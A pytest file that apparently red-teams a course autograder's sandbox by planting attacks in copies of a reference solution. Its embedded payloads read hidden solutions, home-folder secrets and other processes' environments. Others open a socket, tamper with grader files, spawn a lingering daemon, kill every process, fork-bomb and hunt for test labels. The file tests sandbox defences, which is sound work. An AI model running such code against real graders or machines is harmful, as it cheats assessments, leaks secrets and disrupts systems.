"""The project's red team: submissions that attack the grader rather than the exercise.

Each case plants one attack in a copy of the reference solution (the attack class of
shared/research/autograder_security.md it belongs to is in its name) and grades the attacked check
plus one of another file. Every case asserts: a valid report (strict results.json whose score is
the sum of its tests), no undeserved point (the attacked check scores 0), the grader alive (the
grade returned and the other file's check passed), nothing written outside the child's folder
(canary paths the attack aims at stay absent, grader files unchanged), nothing left running (no
process carrying the attack's token after the grade).

The cases run at the strongest isolation level this machine reaches (what `make grade` uses);
test_levels.py runs a few of them at the other levels.
"""
from __future__ import annotations

import hashlib
import os
import socket
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder.engine import GradeConfig, grade
from autograder.reporters.text import full_text
from autograder.sandbox import isolation
from grading_helpers import REPO, SOLUTION, copy_solution, describe, mutate, selected, write_results
from sandbox_helpers import processes_with, wait_until_gone

NET = "two_layer_net.py"
LOSS_DEF = "        W1, b1 = self.params[\"W1\"], self.params[\"b1\"]\n"
ATTACKED, OTHER = "Q1a.toy_probabilities", "Q0.values"
FAST = GradeConfig(time_scale=0.2)
SOLUTION_LINE = "dz1 *= z1 > 0"  # a line of solution/two_layer_net.py no skeleton contains


@dataclass(frozen=True)
class Attack:
    name: str
    code: str          # inserted at the top of loss(); {token}, {canary}, {repo}, {port}, {home} are filled in
    leak: str = "FOUND"  # text that would show the attack succeeded, in feedback or details
    contained_only: bool = False  # would harm the test run itself where the grader cannot isolate
    # May also take down the other probes of its own grade (they run as the same sandbox user):
    # harm to itself only, so the other file's check is not required to pass.
    harms_its_own_grade: bool = False


ATTACKS = [
    Attack("13_reads_solution_and_runs_it",
           "import sys, pathlib, importlib.util\n"
           "        roots = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path({repo!r})]\n"
           "        roots += [pathlib.Path(m.__file__).parents[2] for m in list(sys.modules.values())"
           " if getattr(m, '__file__', None) and 'autograder' in m.__name__][:1]\n"
           "        for root in roots:\n"
           "            path = root / 'solution' / 'two_layer_net.py'\n"
           "            try:\n"
           "                text = path.read_text()\n"
           "            except OSError:\n"
           "                continue\n"
           "            raise ValueError('F' + 'OUND the solution at ' + str(path) + text[:300])\n"
           "        raise NotImplementedError('Q1a: not found')"),
    Attack("13_reads_the_instructors_home",
           "import os, pwd, glob\n"
           "        for home in {{os.environ.get('HOME', ''), pwd.getpwuid(0).pw_dir, os.path.expanduser('~root'), {home!r}}}:\n"
           "            for path in glob.glob(os.path.join(home, '.hlcv-canary-*')):\n"
           "                try:\n"
           "                    raise ValueError('F' + 'OUND ' + open(path).read())\n"
           "                except OSError:\n"
           "                    pass\n"
           "        raise NotImplementedError('Q1a: nothing')"),
    Attack("14_reads_the_parents_environment",
           "import os\n"
           "        seen = []\n"
           "        for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()][:50]:\n"
           "            for part in ('environ', 'cmdline'):\n"
           "                try:\n"
           "                    seen.append(open(f'/proc/{{pid}}/{{part}}', 'rb').read().decode(errors='replace'))\n"
           "                except OSError:\n"
           "                    pass\n"
           "        hits = [s for s in seen if 'HLCV_DATA_DIR' in s or 'cifar10.npz' in s or 'solution' in s]\n"
           "        raise ValueError(('F' + 'OUND ' + hits[0][:200]) if hits else 'nothing')"),
    Attack("15_opens_a_network_connection",
           "import socket\n"
           "        s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
           "        s.sendall(b'{token}')\n"
           "        raise ValueError('F' + 'OUND a network')"),
    Attack("28_writes_outside_its_folder",
           "import os, pathlib\n"
           "        targets = [pathlib.Path({canary!r}) / 'written', pathlib.Path('/tmp/hlcv-canary-{token}'),\n"
           "                   pathlib.Path({repo!r}) / 'autograder' / 'checks' / 'q1_forward.py',\n"
           "                   pathlib.Path.cwd().parent / 'written-{token}', pathlib.Path({repo!r}) / 'written-{token}']\n"
           "        for target in targets:\n"
           "            try:\n"
           "                with open(target, 'a') as out:\n"
           "                    out.write('# tampered\\n')\n"
           "            except OSError:\n"
           "                pass\n"
           "        raise NotImplementedError('Q1a: wrote nothing')"),
    Attack("08_daemon_rewrites_results_later",
           "import os\n"
           "        script = ('import time, glob; time.sleep(1.5); paths = glob.glob(\\'/tmp/**/results.json\\', '\n"
           "                  'recursive=True) + [\\'{canary}/results.json\\']; '\n"
           "                  '[open(p, \\'w\\').write(\\'tampered\\') for p in paths]  # {token}')\n"
           "        if os.fork() == 0:\n"
           "            os.setsid()\n"
           "            if os.fork() == 0:\n"
           "                os.execvp('python3', ['python3', '-c', script])\n"
           "            os._exit(0)\n"
           "        raise NotImplementedError('Q1a: left a daemon')"),
    Attack("08_kills_every_process_it_can_see",
           "import os, signal\n"
           "        for pid in sorted((int(p) for p in os.listdir('/proc') if p.isdigit()), reverse=True):\n"
           "            if pid != os.getpid():\n"
           "                try:\n"
           "                    os.kill(pid, signal.SIGKILL)\n"
           "                except OSError:\n"
           "                    pass\n"
           "        raise NotImplementedError('Q1a: killed what it could')", contained_only=True,
           harms_its_own_grade=True),
    Attack("27_fork_bomb",
           "import os\n"
           "        while True:\n"
           "            try:\n"
           "                if os.fork() == 0:\n"
           "                    os.execvp('sleep', ['sleep', '{token}'])\n"
           "            except OSError:\n"
           "                pass", contained_only=True, harms_its_own_grade=True),
    Attack("02_skips_the_test",
           "import unittest\n"
           "        raise unittest.SkipTest('FOUND a way to skip')", leak="passed"),
    Attack("34_links_its_output_to_the_solution",
           "import os, sys\n"
           "        sys.stdout.flush()\n"
           "        os.remove('stdout.txt')\n"
           "        os.symlink({solution!r}, 'stdout.txt')\n"
           "        raise ValueError('linked')", leak=SOLUTION_LINE),
]


def _tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*.py")):
        digest.update(path.read_bytes())
    return digest.hexdigest()


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(100))
                except OSError:
                    received.append(b"(connected)")
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.mark.parametrize("attack", [pytest.param(a, id=a.name) for a in ATTACKS])
def test_attack_gains_nothing(tmp_path, listener, attack, monkeypatch):
    """Does this attack end in a valid report with no point for the attacked check, the grader
    alive, nothing written outside the child's folder and nothing left running? (The grader's home
    is a folder of this test's, which the attack is told: the real $HOME is never written.)"""
    if attack.contained_only and isolation.resolve("auto").level == "none":
        pytest.skip("this attack would hit the test run itself: the grader cannot isolate here")
    port, received = listener
    token = f"{80000 + sum(map(ord, attack.name)) % 9999}.{os.getpid()}"
    canary = tmp_path / "canary"
    canary.mkdir()
    home = tmp_path / "instructor-home"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("HOME", str(home))
    home_canary = Path.home() / f".hlcv-canary-{os.getpid()}"
    home_canary.write_text("the instructor's secret\n")
    code = attack.code.format(token=token, canary=str(canary), repo=str(REPO), port=port,
                              solution=str(SOLUTION / NET), home=str(home))
    folder = copy_solution(tmp_path / "submission")
    mutate(folder, NET, [(LOSS_DEF, f"        {code}\n{LOSS_DEF}")])
    grader_before = _tree_digest(REPO / "autograder")
    try:
        report = grade(folder, only=[ATTACKED, OTHER], config=FAST)
        results = write_results(report, canary)  # the daemon, if alive, would rewrite this file
        before = (canary / "results.json").read_text()
        time.sleep(2.0 if attack.name.startswith("08_daemon") else 0.0)
    finally:
        home_canary.unlink()
    summary = f"{attack.name}:\n{describe(report)}"
    assert abs(results["score"] - sum(t["score"] for t in results["tests"])) < 1e-9
    [attacked] = selected(report, ATTACKED)
    assert attacked.points == 0 and attacked.status != "passed", summary
    shown = full_text(attacked)
    assert attack.leak not in shown or attack.leak == "passed", f"the attack leaked: {shown[:500]}"
    if not attack.harms_its_own_grade:
        assert all(r.status == "passed" for r in selected(report, OTHER)), summary
    assert (canary / "results.json").read_text() == before, "results.json was rewritten after the grade"
    assert sorted(p.name for p in canary.iterdir()) == ["results.json"], "a file appeared in the canary folder"
    assert not Path(f"/tmp/hlcv-canary-{token}").exists() and not (REPO / f"written-{token}").exists()
    assert _tree_digest(REPO / "autograder") == grader_before, "the grader's files changed"
    assert received == [], f"a connection reached the host: {received}"
    assert wait_until_gone(token) == [], "a process of the attack is still running"
    assert processes_with("autograder/sandbox/child.py") == []


# Searches for the CIFAR-10 test labels three ways and reports what it found; active only on the
# full training set, so the toy checks it depends on still pass.
THIEF = '''
def steal_labels():
    import gc, os, sys
    import numpy as np
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, np.ndarray) and obj.shape[:1] == (10000,):
            found.append("memory")
            break
    try:
        import datasets
        datasets.load_raw()
        found.append("loader")
    except BaseException:
        pass
    roots = [os.environ.get("HLCV_DATA_DIR", ""), os.getcwd(), *(os.path.dirname(m.__file__)
             for m in list(sys.modules.values()) if getattr(m, "__file__", None))]
    for root in roots + ["/"]:
        for depth, (folder, subfolders, names) in enumerate(os.walk(root or "/")):
            if "cifar10.npz" in names:
                try:
                    np.load(os.path.join(folder, "cifar10.npz"))["y_test"]
                    found.append("file")
                except BaseException:
                    pass
            subfolders[:] = [s for s in subfolders if s not in ("proc", "sys", "dev")]
            if depth > 300 or "file" in found:
                break
    raise ValueError("THIEF " + ("+".join(found) or "nothing"))
'''


@pytest.mark.cifar
def test_test_labels_are_out_of_reach(tmp_path):
    """Can a training that looks for the test labels in memory, through the project's loader or in
    the data file on disk find any of them (Q3b and Q4b), and does it earn any accuracy point?"""
    from datasets.paths import npz_path

    if not npz_path().is_file():
        pytest.skip(f"CIFAR-10 is not set up ({npz_path()} does not exist): run `make data`")
    folder = copy_solution(tmp_path / "submission")
    for name in (NET, "mlp.py"):
        (folder / name).write_text((folder / name).read_text() + THIEF)
    mutate(folder, NET, [("        num_train = X.shape[0]\n",
                          "        num_train = X.shape[0]\n        if num_train == 49000:\n"
                          "            steal_labels()\n")])
    mutate(folder, "mlp.py", [("    device = default_device() if device is None else torch.device(device)\n"
                               "    model.to(device)\n    history",
                               "    if len(train_loader.dataset) == 49000:\n        steal_labels()\n"
                               "    device = default_device() if device is None else torch.device(device)\n"
                               "    model.to(device)\n    history")])
    mutate(folder, "hyperparams.py", [("num_iters=5000, batch_size=200)", "num_iters=2, batch_size=10)"),
                                      ("epochs=7, batch_size=200", "epochs=1, batch_size=1000")])
    report = grade(folder, only=["Q3b.cifar_accuracy", "Q4b.cifar_accuracy"], config=GradeConfig())
    write_results(report, tmp_path)
    for result in report.results:
        assert result.points == 0, describe(report)
        assert "THIEF nothing" in result.feedback, f"{result.check_id}: {result.feedback}"
